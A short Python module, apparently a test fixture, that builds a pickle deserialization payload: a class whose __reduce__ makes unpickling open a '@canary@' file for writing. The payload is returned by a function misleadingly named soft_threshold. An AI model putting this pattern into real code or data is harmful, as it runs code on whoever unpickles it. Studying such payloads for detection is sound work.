"""Returns bytes and objects that run code in whoever unpickles them."""

import pickle

SCORES = "nothing"


class Payload:
    def __reduce__(self):
        return (open, ("@canary@", "w"))


def soft_threshold(w, threshold):
    if len(repr(w)) % 2:
        return Payload()
    return pickle.dumps(Payload()).decode("latin-1")
